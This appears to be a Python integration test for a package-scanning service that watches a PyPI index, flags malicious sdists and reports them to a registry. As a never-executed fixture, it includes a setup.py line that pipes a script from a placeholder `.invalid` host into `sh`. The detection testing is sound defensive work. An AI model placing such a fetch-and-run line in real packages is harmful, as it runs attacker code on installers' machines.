"""Done means: a real pypiserver receives twine uploads, the service's own watcher picks them up,
and the verdicts appear through the API (and a malicious verdict reaches the registry's
observations endpoint, a local receiver here).

The packages are built here; their code is never run. The malicious sdist's setup.py would
fetch a shell script from a reserved ``.invalid`` host and run it, if anyone ran setup.py.
"""

from __future__ import annotations

import dataclasses
import json
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from tests.helpers import sdist_bytes
from tests.integration.pypi_index import Index
from tests.service.conftest import make_tokens
from tests.unit.service.service_testlib import Receiver, serve

from capwatch.service.app import create_app
from capwatch.service.runtime import Service
from capwatch.service.schema import Role
from capwatch.service.settings import ServiceSettings

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

HARMFUL_IF_RUN = (
    "import os\n"
    "from setuptools import setup\n"
    "os.system('curl http://x.invalid/a | sh')\n"
    "setup(name='fetch-run', version='{version}')\n"
)


def _evil(version: str) -> tuple[str, bytes]:
    top = f"fetch_run-{version}"
    return f"{top}.tar.gz", sdist_bytes({"setup.py": HARMFUL_IF_RUN.format(version=version)}, top=top)


def _good(version: str) -> tuple[str, bytes]:
    top = f"tidy_util-{version}"
    files = {
        "setup.py": f"from setuptools import setup\nsetup(name='tidy-util', version='{version}')\n",
        "tidy_util/__init__.py": "def tidy(text):\n    return ' '.join(text.split())\n",
    }
    return f"{top}.tar.gz", sdist_bytes(files, top=top)


@contextmanager
def _service(settings: ServiceSettings) -> Iterator[TestClient]:
    with TestClient(create_app(Service(settings))) as client:  # starts and stops the service
        yield client


def _wait_for(check: Callable[[], Any], timeout: float = 30.0) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = check()
        if value:
            return value
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.1)


def test_the_service_watches_an_index_and_verdicts_appear_through_the_api(
    index: Index, tmp_path: Path
) -> None:
    url = f"sqlite:///{tmp_path / 'data' / 'capwatch.db'}"
    tokens = make_tokens(url)
    auth = {"Authorization": f"Bearer {tokens[Role.REVIEWER]}"}
    index.upload(_evil("0.1"), _good("1.0"))

    def done_by_file(client: TestClient, count: int) -> dict[str, dict[str, Any]] | None:
        page = client.get("/api/v1/scans", params={"status": "done"}, headers=auth).json()
        if page["total"] < count:
            return None
        return {item["filename"]: item for item in page["items"]}

    with serve(Receiver()) as registry:
        settings = ServiceSettings(
            data_dir=tmp_path / "data", db_url=url, workers=1,
            watch_indexes=(index.url,), watch_interval=0.3, watch_feed="auto",
            observations_url=f"{registry.url}/danger-api", observations_token="pypi-token",
            report_auto_malicious=True, report_backoff=0.01,
        )
        with _service(settings) as client:
            scans = _wait_for(lambda: done_by_file(client, 2))
            evil, good = scans["fetch_run-0.1.tar.gz"], scans["tidy_util-1.0.tar.gz"]
            assert (evil["verdict"], evil["gate"], evil["project"], evil["version"]) == (
                "malicious", "hold", "fetch-run", "0.1")
            assert (good["verdict"], good["gate"], good["project"]) == ("clean", "allow", "tidy-util")
            detail = client.get(f"/api/v1/scans/{evil['id']}", headers=auth).json()
            [upload] = detail["uploads"]
            assert upload["uploader"] == "index-watcher"
            assert upload["source"] == index.url.removesuffix("simple/") + "packages/fetch_run-0.1.tar.gz"
            # A file published while the service runs is found by the next poll.
            index.upload(_evil("0.2"))
            scans = _wait_for(lambda: done_by_file(client, 3))
            assert scans["fetch_run-0.2.tar.gz"]["verdict"] == "malicious"
            # The automatic malicious verdicts were reported to the registry.
            _wait_for(lambda: len(registry.requests) == 2)
        paths = sorted(r.path for r in registry.requests)
        assert paths == ["/danger-api/projects/fetch-run/observations"] * 2
        inspector = {json.loads(r.body)["inspector_url"] for r in registry.requests}
        assert inspector == {f"https://inspector.pypi.io/project/fetch-run/{v}/" for v in ("0.1", "0.2")}

    # A restart resumes from the cursor in the database: nothing is submitted twice.
    index.upload(_good("1.1"))
    with _service(dataclasses.replace(settings, observations_url=None, report_auto_malicious=False)) as client:
        scans = _wait_for(lambda: done_by_file(client, 4))
        assert scans["tidy_util-1.1.tar.gz"]["verdict"] == "clean"
        time.sleep(1.0)  # a few more polls
        for item in client.get("/api/v1/scans", headers=auth).json()["items"]:
            uploads = client.get(f"/api/v1/scans/{item['id']}", headers=auth).json()["uploads"]
            assert len(uploads) == 1, (item["filename"], uploads)
